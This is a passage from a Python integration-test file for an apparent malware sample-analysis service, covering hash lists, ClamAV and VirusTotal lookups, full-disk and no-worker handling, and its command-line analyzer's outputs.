            check("bad.txt (sha256)" in facts["known_bad"], facts)
            same(facts["clamav"], "Txt.Test.Inert-1", "clamd")
            facts = facts_of(scene, script(3), "x.vbs")
            check("12 of 20 engines" in facts.get("vt_consensus", ""), facts)
            with open(folder + "/asked", encoding="utf-8") as f:
                same(f"/v3/files/{asked} sesame\n", f.read(), "the service was asked for the digest")
            check(scene.done(scene.taken(script(1)))["verdict"] != "malicious", "known good")
            write(folder + "/bad.txt", hashlib.sha256(later).hexdigest() + "\n")
            wait_for(lambda: "known_bad" in facts_of(scene, later), "the changed list", 30)
            write(folder + "/bad.txt", "no digest at all\n")
            wait_for(lambda: log_count(scene, '"id":"samples.refused"') > 0, "it to be refused", 30)
            check("known_bad" in facts_of(scene, later), "the old one judges")
        finally:
            servers.stdin.close()
    row, facts = note(scene, "away")
    check("clamav" not in facts and row["state"] == "done", facts)
    check("clamd" in json.dumps(row["report"]["gaps"]), row["report"]["gaps"])
    scene.site.stop()
    scene.site.config["samples"]["clamd"] = "nowhere"
    scene.site.spawn()
    check(scene.site.process.wait(60) != 0, "an address that is none")
    check("samples.clamd" in scene.site.log_text(), "and it says which")
    scene.site.process = None


def facts_of(scene, data, name="note.txt"):
    """Anew each time: another password makes another sample of the same bytes."""
    scene.turn = getattr(scene, "turn", 0) + 1
    row = scene.done(scene.taken(data, name, passwords=[f"p{scene.turn}"]))
    facts = row["report"]["objects"][0]["facts"]
    return {f["name"]: f["value"] for f in facts} if isinstance(facts, list) else facts


def case_full_disk(scene):
    """Without room nothing is acknowledged; with room again everything goes on."""
    folder = scene.site.path("small")
    os.mkdir(folder)
    if os.geteuid() != 0 or subprocess.run(["mount", "-t", "tmpfs", "-o", "size=400k", "tmpfs", folder],
                                           stderr=subprocess.DEVNULL, check=False).returncode:
        print("full_disk: SKIPPED, no tmpfs can be mounted here")
        return 77
    try:
        os.makedirs(scene.site.path("data"), mode=0o700)
        os.symlink(folder, scene.site.path("data/samples"))
        scene.start()
        statuses = []
        for number in range(20):
            statuses.append(scene.submit(os.urandom(60000)).status)
            if statuses[-1] == 503:
                break
        same(statuses[-1], 503, f"{statuses}")
        subprocess.run(["mount", "-o", "remount,size=64m", folder], check=True)
        row = scene.done(scene.taken(script(1)))
        same(row["verdict"], "malicious", "with room again")
        for sample in scene.admin.ok("GET", "/v1/samples").json["items"]:
            same(scene.done(sample)["state"], "done", "each that was acknowledged")
        scene.site.stop()
    finally:
        scene.site.close()
        subprocess.run(["umount", folder], check=False)
    return 0


def case_off(scene):
    """Without workers there are no samples, and the server says so; a limit that is none is told."""
    scene.site.config["samples"]["workers"] = 0
    scene.start()
    same(scene.submit(script(1)).status, 503, "handed in")
    same(scene.admin.get("/v1/samples").status, 503, "listed")
    same(scene.admin.ok("GET", "/v1/status").json["samples"]["workers"], 0, "status")
    scene.site.stop()
    scene.site.config["samples"].update({"workers": 1, "limits": ["wall_ms=1", "cpu_seconds=1"]})
    scene.start()
    row = scene.done(scene.taken(script(1)))
    check("cpu" in json.dumps(row["report"]["objects"]) or "wall_ms" in json.dumps(row["report"]["gaps"]),
          row["report"]["gaps"])
    scene.site.stop()
    scene.site.config["samples"]["limits"] = ["none=1"]
    scene.site.spawn()
    check(scene.site.process.wait(60) != 0, "a limit that is none")
    scene.site.process = None


def run(scene, *args, code=0):
    done = subprocess.run([scene.site.program, "analyze", *args], capture_output=True, text=True,
                          timeout=120, check=False, cwd=scene.site.folder, env=dict(
                              os.environ, HINOMI_TOKEN=scene.token_text, LANG="C.UTF-8",
                              XDG_CACHE_HOME=scene.site.path("cache")))
    same(done.returncode, code, f"{args}: {done.stdout}{done.stderr}")
    return done.stdout


def case_cli(scene):
    """`hinomi analyze --server` shows and writes what an analysis here does, with what is in the
    journal; --no-wait prints ids; what cannot be asked of a server is refused."""
    scene.start()
    scene.token_text = scene.site.planted_token("cli", "analyst", 3)
    log_line(scene.site, EventID=22, Computer="pc-7", User="alice", QueryName=HOST)
    wait_for(lambda: scene.admin.ok("GET", "/v1/status").json["engine"]["events"] >= 1, "an event")
    for name, data in (("a.vbs", script(1).encode()), ("b.zip", zip_of({"c.vbs": script(2)})),
                       ("note.txt", b"nothing to see\n")):
        with open(scene.site.path(name), "wb") as f:
            f.write(data)
    server = ["--server", f"http://127.0.0.1:{scene.site.port}"]
    rules = [arg for path in scene.site.config["rules"]["paths"] for arg in ("--rules-dir", path)]
    for name in ("a.vbs", "b.zip", "note.txt"):
        for lang in ("en", "ja"):
            here = run(scene, "--reserved", "--lang", lang, *rules, name)
            there = run(scene, "--reserved", "--lang", lang, *server, name)
            heading = {"en": "Seen in the server's journal", "ja": "サーバーのジャーナル内の痕跡"}[lang]
            check(heading in there, there)
            blocks = there.split("\n\n")
            kept = [b for b in blocks if heading not in b]
            same([b.strip() for b in kept], [b.strip() for b in here.split("\n\n")], name + lang)
    out = run(scene, *server, "--json", "x.jsonl", "--report", "r.html", "--iocs", "i.csv", "--reserved",
              "a.vbs")
    check("malicious" in out and "pc-7" in out and "http://" not in out, out)
    report = json.loads(open(scene.site.path("x.jsonl"), encoding="utf-8").read())
    same((report["verdict"], report["journal"]["hits"][0]["host"]), ("malicious", "pc-7"), "JSON")
    check("pc-7" in open(scene.site.path("r.html"), encoding="utf-8").read(), "HTML")
    check(HOST in open(scene.site.path("i.csv"), encoding="utf-8").read(), "CSV")
    lines = run(scene, *server, "--no-wait", "a.vbs", "b.zip").splitlines()
    same([line.split()[1] for line in lines], ["a.vbs", "b.zip"], "--no-wait")
    same(len(lines[0].split()[0]), 32, "an id")
    run(scene, *server, "--fail-on", "malicious", "-q", "a.vbs", code=1)
    run(scene, *server, "--limit", "wall_ms=1", "a.vbs", code=3)
    run(scene, "--no-wait", "a.vbs", code=3)
    run(scene, *server, "-q", "note.txt", "none", code=5)


CASES = {name[5:]: function for name, function in list(globals().items()) if name.startswith("case_")}


def main():
    scene = Scene(sys.argv[1])
    began = time.monotonic()
    try:
        result = CASES[sys.argv[2]](scene)
        scene.close()
    except Exception:
        sys.stderr.write(scene.site.log_text()[-4000:])
        raise
    finally:
        scene.site.close()
    print(f"{sys.argv[2]}: {time.monotonic() - began:.1f} s")
    return result or 0


if __name__ == "__main__":
    sys.exit(main())
